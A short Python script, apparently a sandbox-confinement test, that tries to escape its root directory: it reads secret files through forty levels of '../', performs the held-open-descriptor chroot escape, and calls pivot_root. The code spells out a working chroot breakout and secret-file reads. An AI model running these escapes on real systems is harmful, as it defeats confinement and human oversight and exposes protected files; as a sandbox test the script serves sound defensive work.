"""Climbs out of its root: by .., by chroot and by a folder that it holds open."""

import os

from report import SCENE, attempt, read, syscall

for path in SCENE["secret_files"]:
    attempt("by ..", lambda path=path: read("../" * 40 + path.lstrip("/")))
os.mkdir("below")
root = os.open("/", os.O_RDONLY)
attempt("chroot", lambda: syscall("chroot", b"below"))
os.fchdir(root)
attempt("pivot_root", lambda: syscall("pivot_root", b".", b"."))
